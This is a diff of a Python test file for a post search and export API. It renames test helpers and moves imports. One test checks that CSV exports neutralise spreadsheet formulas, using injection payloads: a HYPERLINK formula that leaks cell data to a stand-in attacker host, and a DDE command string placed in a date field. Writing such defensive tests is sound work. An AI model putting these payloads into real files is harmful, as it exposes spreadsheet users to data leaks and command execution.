@@ -17,8 +17,18 @@ import pytest
 from firehose.api import create_app
 from firehose.config import Settings
 from firehose.csv_export import truncation_row
-from tests.conftest import free_port
-from tests.unit.test_query import DAY1, DAY2, DAY3, bulk_posts, post, settings_for, us, write_identity, write_posts
+from tests.support.archive import (
+    DAY1,
+    DAY2,
+    DAY3,
+    bulk_posts,
+    post_row,
+    search_settings,
+    us,
+    write_identity,
+    write_posts,
+)
+from tests.support.services import free_port
 
 
 class Response:
@@ -57,10 +67,10 @@ def get(app: Any, path: str, **params: Any) -> Response:
 def data_dir(tmp_path: Path) -> Path:
     data = tmp_path / "data"
     rows = [
-        post("Hello world", DAY1, did="did:plc:alice", langs=["en"]),
-        post("hello, new WORLD", DAY2, did="did:plc:bob", mentions=["did:plc:alice"]),
-        post('text with "quotes", commas\nand a newline', DAY3, did="did:plc:carol"),
-        post("Привет мир 🦋", DAY3, did="did:plc:alice", langs=["ru"], links=["https://news.example.org/a"]),
+        post_row("Hello world", DAY1, did="did:plc:alice", langs=["en"]),
+        post_row("hello, new WORLD", DAY2, did="did:plc:bob", mentions=["did:plc:alice"]),
+        post_row('text with "quotes", commas\nand a newline', DAY3, did="did:plc:carol"),
+        post_row("Привет мир 🦋", DAY3, did="did:plc:alice", langs=["ru"], links=["https://news.example.org/a"]),
     ]
     write_posts(data, rows)
     write_identity(data, [("did:plc:alice", "alice.test", us(DAY1, 1)), ("did:plc:bob", "bob.test", us(DAY1, 2))])
@@ -69,7 +79,7 @@ def data_dir(tmp_path: Path) -> Path:
 
 @pytest.fixture
 def app(data_dir: Path) -> Any:
-    return create_app(settings_for(data_dir, redis_url="redis://127.0.0.1:1/0"))
+    return create_app(search_settings(data_dir, redis_url="redis://127.0.0.1:1/0"))
 
 
 def test_search_shape(app: Any) -> None:
@@ -192,7 +202,7 @@ def test_cursor_pages(tmp_path: Path) -> None:
     data = tmp_path / "data"
     bulk_posts(data, DAY1, 80, name="a")
     bulk_posts(data, DAY2, 80, name="b")
-    app = create_app(settings_for(data, api_page_size=50, api_max_results=120))
+    app = create_app(search_settings(data, api_page_size=50, api_max_results=120))
     seen: list[str] = []
     params: dict[str, Any] = {"text": "filler", "limit": 50}
     counts = []
@@ -207,7 +217,7 @@ def test_cursor_pages(tmp_path: Path) -> None:
     other = get(app, "/search", text="other words", cursor=params["cursor"])
     assert other.status == 400 and error_of(other)["parameter"] == "cursor"
     # another worker with the same secret accepts the cursor
-    again = create_app(settings_for(data, api_page_size=50, api_max_results=120))
+    again = create_app(search_settings(data, api_page_size=50, api_max_results=120))
     assert get(again, "/search", **params).status == 200
 
 
@@ -255,9 +265,9 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", 
 
 def test_export_neutralises_formula_cells_unless_raw(tmp_path: Path) -> None:
     data = tmp_path / "data"
-    write_posts(data, [post(text, DAY1, seconds=i, created_at="=cmd|' /C calc'!A0") for i, text in
+    write_posts(data, [post_row(text, DAY1, seconds=i, created_at="=cmd|' /C calc'!A0") for i, text in
                        enumerate([*FORMULAS, "plain text", "a = b + c"])])
-    app = create_app(settings_for(data))
+    app = create_app(search_settings(data))
     rows = list(csv.DictReader(io.StringIO(get(app, "/export", sort="oldest").body.decode(), newline="")))
     assert [r["text"] for r in rows] == ["'" + f for f in FORMULAS] + ["plain text", "a = b + c"]
     assert {r["created_at"] for r in rows} == {"'=cmd|' /C calc'!A0"}  # every text column, not only text
@@ -279,7 +289,7 @@ def test_errors_name_the_parameter_the_client_sent(app: Any, query: str, paramet
 
 
 def test_health_fails_when_nothing_can_be_served(tmp_path: Path) -> None:
-    r = get(create_app(settings_for(tmp_path / "no-volume-here")), "/health")
+    r = get(create_app(search_settings(tmp_path / "no-volume-here")), "/health")
     assert r.status == 503 and r.json()["status"] == "fail" and "does not exist" in r.json()["reasons"][0]
 
 
@@ -287,7 +297,7 @@ def test_export_cap_over_partitions(tmp_path: Path) -> None:
     data = tmp_path / "data"
     for i, day in enumerate((DAY1, DAY2, DAY3)):
         bulk_posts(data, day, 3000, name=f"p{i}")
-    app = create_app(settings_for(data, api_export_max_rows=7000))
+    app = create_app(search_settings(data, api_export_max_rows=7000))
     rows = list(csv.DictReader(io.StringIO(get(app, "/export").body.decode())))
     assert rows.pop()["timestamp"].startswith("# truncated: limit of 7000 rows reached and more posts match "
                                               "(FIREHOSE_API_EXPORT_MAX_ROWS")
@@ -304,7 +314,7 @@ def test_timeout_is_a_504_and_the_worker_recovers(tmp_path: Path) -> None:
     # a budget no machine can meet: scanning 560k long texts takes ~80 ms here, two orders of magnitude more than
     # 1 ms, and the watchdog's verdict is checked after every statement (an interrupt that lands between two
     # statements is not lost)
-    app = create_app(settings_for(data, api_query_timeout=0.001))
+    app = create_app(search_settings(data, api_query_timeout=0.001))
     r = get(app, "/search", text="nowhere-to-be-found")
     assert r.status == 504 and "budget" in error_of(r)["message"]
     r = get(app, "/export", text="nowhere-to-be-found")
@@ -350,8 +360,8 @@ def test_health_stats_metrics(app: Any) -> None:
 
 def test_dead_resolvers_never_fail_a_search(data_dir: Path) -> None:
     dead = f"http://127.0.0.1:{free_port()}"
-    app = create_app(settings_for(data_dir, plc_url=dead, resolve_handle_url=dead + "/xrpc",
-                                  dns_enabled=True, dns_nameservers=(f"127.0.0.1:{free_port()}",)))
+    app = create_app(search_settings(data_dir, plc_url=dead, resolve_handle_url=dead + "/xrpc",
+                                     dns_enabled=True, dns_nameservers=(f"127.0.0.1:{free_port()}",)))
     r = get(app, "/search", text="quotes")
     assert r.status == 200 and r.json()["results"][0]["username"] == "did:plc:carol"  # the DID is shown
     r = get(app, "/search", username="nobody.example.com")
